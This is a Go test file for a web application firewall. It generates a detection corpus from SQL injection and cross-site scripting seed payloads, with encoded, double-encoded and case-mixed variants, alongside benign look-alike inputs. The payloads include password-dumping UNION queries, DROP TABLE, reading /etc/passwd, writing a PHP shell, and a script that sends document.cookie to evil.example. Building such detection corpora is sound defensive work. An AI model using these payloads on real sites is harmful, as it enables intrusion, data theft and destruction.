package waf

import (
	"flag"
	"fmt"
	"math/rand"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// go test ./internal/waf -run TestGenerateCorpus -update-corpus rewrites
// testdata/attacks.txt and testdata/benign.txt from the seeds below. Each
// line is the value of a query argument as it travels on the wire.
var updateCorpus = flag.Bool("update-corpus", false, "regenerate the detection corpus in testdata/")

var sqliSeeds = []string{
	`' OR '1'='1`,
	`' OR 1=1--`,
	`" OR "a"="a`,
	`admin'--`,
	`admin' #`,
	`1' AND 1=1 --`,
	`1 OR 1=1`,
	`1) OR (1=1`,
	`') OR ('x'='x`,
	`1' UNION SELECT NULL--`,
	`1' UNION SELECT username, password FROM users--`,
	`-1 UNION ALL SELECT 1,2,3,4--`,
	`1 UNION SELECT @@version--`,
	`' UNION SELECT table_name FROM information_schema.tables--`,
	`1; DROP TABLE users--`,
	`1'; DROP TABLE accounts; --`,
	`'; EXEC xp_cmdshell('dir')--`,
	`1; SHUTDOWN--`,
	`1' AND SLEEP(5)--`,
	`1 AND SLEEP(5)`,
	`1' AND BENCHMARK(5000000,MD5(1))--`,
	`'; WAITFOR DELAY '0:0:5'--`,
	`1) AND pg_sleep(5)--`,
	`1' AND (SELECT COUNT(*) FROM users) > 0 --`,
	`1' AND SUBSTRING(@@version,1,1)='5`,
	`1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64`,
	`' AND extractvalue(1,concat(0x7e,version()))--`,
	`' AND updatexml(1,concat(0x7e,user()),1)--`,
	`1' ORDER BY 10--`,
	`1' GROUP BY 1,2 HAVING 1=1--`,
	`' OR 'x'='x' LIMIT 1 --`,
	`' OR username IS NOT NULL --`,
	`1 OR 'a'='a'`,
	`x' AND email IS NULL; --`,
	`' OR 1 IN (SELECT @@version)--`,
	`1'||(SELECT 1 FROM dual)||'`,
	`' UNION SELECT load_file('/etc/passwd')--`,
	`' INTO OUTFILE '/var/www/shell.php'--`,
	`1; INSERT INTO users (name) VALUES ('hacker')--`,
	`1; UPDATE users SET role='admin' WHERE id=1--`,
	`1; DELETE FROM orders--`,
	`' OR ''='`,
	`' or 1=1 limit 1 -- -+`,
	`1' or '1'='1' /*`,
	`" or 1=1 --`,
	`') or '1'='1--`,
	`")) OR 1=1--`,
	`1 AND 1=CONVERT(int,@@version)`,
	`1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)`,
	`1' AND 1=(SELECT 1 FROM pg_sleep(5))--`,
	`-1' UNION SELECT 1,group_concat(schema_name) FROM information_schema.schemata--`,
	`1 UNION SELECT CHAR(113,113,113)--`,
	`' HAVING 1=1 --`,
	`admin' OR '1'='1'--`,
	`1' AND '1'='1`,
	`1 OR sleep(10)#`,
	`' OR EXISTS(SELECT * FROM users)--`,
	`1'; SELECT pg_sleep(10);--`,
	`%' AND 1=1 AND '%'='`,
	`' OR 0x50=0x50 --`,
}

var xssSeeds = []string{
	`<script>alert(1)</script>`,
	`<script>alert(document.cookie)</script>`,
	`<script src=https://evil.example/x.js></script>`,
	`"><script>alert(1)</script>`,
	`'><script>alert(String.fromCharCode(88,83,83))</script>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" onerror="alert('xss')">`,
	`<svg onload=alert(1)>`,
	`<svg/onload=alert(document.domain)>`,
	`<body onload=alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<a href="javascript:alert(1)">click</a>`,
	`<a href=javascript:alert(document.cookie)>x</a>`,
	`<input autofocus onfocus=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror="alert(1)"></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<marquee onstart=alert(1)>`,
	`<div onmouseover="alert(1)">hover</div>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<form action="javascript:alert(1)"><input type=submit>`,
	`<button formaction=javascript:alert(1)>x</button>`,
	`<math><mtext><script>alert(1)</script></mtext></math>`,
	`<table background="javascript:alert(1)">`,
	`<link rel=stylesheet href=javascript:alert(1)>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<style>@import 'javascript:alert(1)';</style>`,
	`<div style="background:url(javascript:alert(1))">`,
	`<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>`,
	`"><img src=x onerror=prompt(1)>`,
	`'"><svg onload=confirm(1)>`,
	`</title><script>alert(1)</script>`,
	`</textarea><script>alert(1)</script>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script>fetch('//evil.example?c='+document.cookie)</script>`,
	`<img src="javascript:alert('XSS');">`,
	`<base href="javascript:alert(1)//">`,
	`<isindex action=javascript:alert(1) type=image>`,
	`<select onfocus=alert(1) autofocus>`,
	`<textarea onfocus=alert(1) autofocus>`,
	`<keygen onfocus=alert(1) autofocus>`,
	`<frameset onload=alert(1)>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
	`<script>window.location='https://evil.example'</script>`,
	`<x onclick=alert(1)>click me`,
	`javascript:alert(1)`,
	`<img src=x onerror=&#97;lert(1)>`,
	`<svg><script>alert&#40;1&#41;</script>`,
}

var benignSeeds = []string{
	// Names with apostrophes and hyphens.
	"O'Brien", "Seán O'Connor", "D'Angelo Russell", "Miles O'Neil", "Anne-Marie D'Souza", "Lucy O'Hara",
	"Renée L'Heureux", "Jean-Luc D'Arcy", "Bill O'Reilly", "Conan O'Brien", "Sinéad O'Sullivan", "Dara Ó Briain",
	// Search queries, including SQL and HTML vocabulary in prose.
	"how to select the right running shoes", "select a color for the kitchen", "script writing for beginners",
	"movie script format", "drop shipping business ideas", "union station opening hours", "union select committee report",
	"delete my account", "update billing address", "insert coin to continue", "table and chairs set", "order by price low to high",
	"where is the nearest pharmacy", "from paris to london by train", "rock 'n' roll hall of fame", "don't stop believin' lyrics",
	"it's a wonderful life", "what's the weather today", "1 + 1 = 2 math homework", "is 2>1 true", "I <3 NY t-shirt",
	"R&D tax credit", "AT&T store near me", "salt & pepper shakers", "fish and chips", "50% off winter sale", "c++ tutorial",
	"c# vs java", "email: jane.doe@example.com", "java script vs javascript", "alert dialog design", "onload event handler explained",
	"html img tag attributes", "what does <br> mean", "best sql books 2024", "sleep schedule tips", "benchmark gpu prices",
	"exec summary template", "admin dashboard design", "or else what", "and then there were none", "select comfort mattress",
	"The Script band tour dates", "Drop Dead Gorgeous movie", "Little Bobby Tables comic", "waitfor it meme",
	"let's go to the beach", "we're open 24/7", "you're welcome", "Martha's Vineyard ferry", "Children's books",
	"the cat's pyjamas", "Ben & Jerry's ice cream", "Macy's thanksgiving parade", "McDonald's menu prices",
	"2 + 2 * 3", "x = y + 1", "price < 100", "rating >= 4 stars", "10/20/2024", "3:45 PM", "width=device-width",
	"Hello, World!", "Thanks!! :)", "Re: your order #12345", "RE: meeting notes (draft)", "FW: invoice 2024-03",
	"New York, NY 10001", "1600 Amphitheatre Parkway", "+1 (555) 010-9999", "ISBN 978-3-16-148410-0",
	"size: 10.5 US", "color=navy blue", "tags: summer, beach, sale", "café au lait", "naïve résumé", "東京 ラーメン",
	"Привет мир", "مرحبا", "emoji 🎉 party", "version 1.2.3-beta", "path/to/file.txt", "C:\\Users\\Public",
	"SELECT is a keyword in SQL", "the word script appears here", "My favourite <b>bold</b> claim", "5' 11\" tall",
	"12\" pizza", "she said \"hello\"", "a 'quoted' word", "null and void", "true or false quiz", "1 or 2 bedrooms",
	"from 9 to 5", "select all that apply", "union jack flag", "drop down menu css", "delete key not working",
	"update firmware router", "sleep 8 hours", "char siu recipe", "concat strings python", "version control git",
	"information about schemes", "user guide pdf", "password reset link", "order status", "group by age",
	"having fun", "limit 5 per customer", "exists or not", "null pointer exception java", "like and subscribe",
	"between two ferns", "case when then end", "cast of friends", "dual sim phone", "table tennis bats",
	"onclick promotion code", "javascript: the good parts", "alert level 3", "prompt engineering", "confirm booking",
	"document camera", "window cleaning services", "cookie recipe chocolate chip", "eval function python",
	"iframe vs embed", "svg icons free", "style guide", "body lotion", "input lag test", "form 1040 instructions",
	"object lesson", "frame rate 60fps", "meta description length", "base camp everest", "link in bio",
}

// benignStructured are whole values typical of APIs and web apps.
var benignStructured = []string{
	`{"name":"O'Brien","age":42}`,
	`{"query":"select a plan","page":2}`,
	`{"comment":"I'll be there at 5 o'clock","rating":5}`,
	`{"items":[{"sku":"A-100","qty":2},{"sku":"B-7","qty":1}]}`,
	`{"email":"jane@example.com","subscribe":true}`,
	`{"title":"Script review","tags":["drama","2024"]}`,
	`{"filter":{"price":{"gte":10,"lte":99}},"sort":"-date"}`,
	`{"text":"Union Station is busy; take the 5 train"}`,
	`{"address":"12 O'Connell St, Dublin"}`,
	`{"msg":"<3 thanks!"}`,
	`["red","green","blue"]`,
	`{"a":1,"b":null,"c":false}`,
	"https://www.example.com/products/123?ref=home",
	"https://shop.example.org/cart?item=42&qty=3",
	"/static/js/app.3f2a1c.js",
	"/images/summer-sale/banner@2x.png",
	"/blog/2024/05/how-to-select-a-laptop",
	"/search?q=drop+shipping",
	"mailto:sales@example.com",
	"2024-05-17T10:15:30Z",
	"550e8400-e29b-41d4-a716-446655440000",
	"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc123",
	"dGhpcyBpcyBiYXNlNjQ=",
	"0x1f4", "3.14159", "-42", "1e10", "100%", "$19.99", "€5,00",
	"lat=51.5074,lng=-0.1278",
	"utm_source=newsletter",
	"en-US,en;q=0.9",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
	"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
	"session=abc123; theme=dark",
	"max-age=3600, must-revalidate",
}

// queryEncode percent-encodes a value the way browsers do for form fields.
func queryEncode(s string, spacePlus bool) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case isWordByte(c) || c == '-' || c == '.' || c == '~':
			b.WriteByte(c)
		case c == ' ' && spacePlus:
			b.WriteByte('+')
		default:
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

// minimalEncode escapes only what cannot appear raw in a query value.
func minimalEncode(s string) string {
	r := strings.NewReplacer("%", "%25", "&", "%26", "#", "%23", "+", "%2B", " ", "%20")
	return r.Replace(s)
}

func mixedCase(r *rand.Rand, s string) string {
	b := []byte(s)
	for i, c := range b {
		if 'a' <= c && c <= 'z' && r.Intn(2) == 0 {
			b[i] = c - 'a' + 'A'
		} else if 'A' <= c && c <= 'Z' && r.Intn(2) == 0 {
			b[i] = c - 'A' + 'a'
		}
	}
	return string(b)
}

func htmlEntities(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		switch c := s[i]; c {
		case '<':
			b.WriteString("&lt;")
		case '>':
			b.WriteString("&gt;")
		case '"':
			b.WriteString("&quot;")
		case '\'', '(', ')':
			fmt.Fprintf(&b, "&#%d;", c)
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}

func generateCorpus() (attacks, benign []string) {
	r := rand.New(rand.NewSource(9))
	for _, s := range sqliSeeds {
		attacks = append(attacks,
			minimalEncode(s),
			queryEncode(s, true),
			queryEncode(queryEncode(s, false), false), // double-encoded
			minimalEncode(mixedCase(r, s)),
			minimalEncode(strings.ReplaceAll(s, " ", "/**/")),
		)
	}
	for _, s := range xssSeeds {
		attacks = append(attacks,
			minimalEncode(s),
			queryEncode(s, false),
			queryEncode(queryEncode(s, false), false),
			minimalEncode(mixedCase(r, s)),
			queryEncode(htmlEntities(s), false),
		)
	}
	for _, s := range benignSeeds {
		benign = append(benign, queryEncode(s, true), queryEncode(s, false), minimalEncode(s))
	}
	for _, s := range benignSeeds {
		benign = append(benign, queryEncode(strings.ToLower(s), true))
	}
	// Shop searches: "<brand> <product> <qualifier>".
	brands := []string{"Acme", "Levi's", "Nike", "Dr. Martens", "Marks & Spencer", "O'Neill", "H&M", "Lands' End", "Gap", "Uniqlo"}
	products := []string{"jeans", "running shoes", "rain jacket", "t-shirt (2-pack)", "boots", "select fit chinos",
		"union suit", "script hoodie", "wetsuit 3/2mm", "socks"}
	quals := []string{"size 10", "on sale", "for kids", "50% off", "black or navy", "under $50"}
	for i, b := range brands {
		for j, p := range products {
			benign = append(benign, queryEncode(b+" "+p+" "+quals[(i+j)%len(quals)], true))
		}
	}
	for _, s := range benignStructured {
		benign = append(benign, queryEncode(s, false), minimalEncode(s))
	}
	return dedupe(attacks), dedupe(benign)
}

func dedupe(in []string) []string {
	seen := map[string]bool{}
	var out []string
	for _, s := range in {
		if !seen[s] {
			seen[s] = true
			out = append(out, s)
		}
	}
	return out
}

func TestGenerateCorpus(t *testing.T) {
	if !*updateCorpus {
		t.Skip("run with -update-corpus to regenerate testdata")
	}
	attacks, benign := generateCorpus()
	write := func(name string, lines []string) {
		if err := os.WriteFile(filepath.Join("testdata", name), []byte(strings.Join(lines, "\n")+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("attacks.txt", attacks)
	write("benign.txt", benign)
	t.Logf("%d attacks, %d benign", len(attacks), len(benign))
}
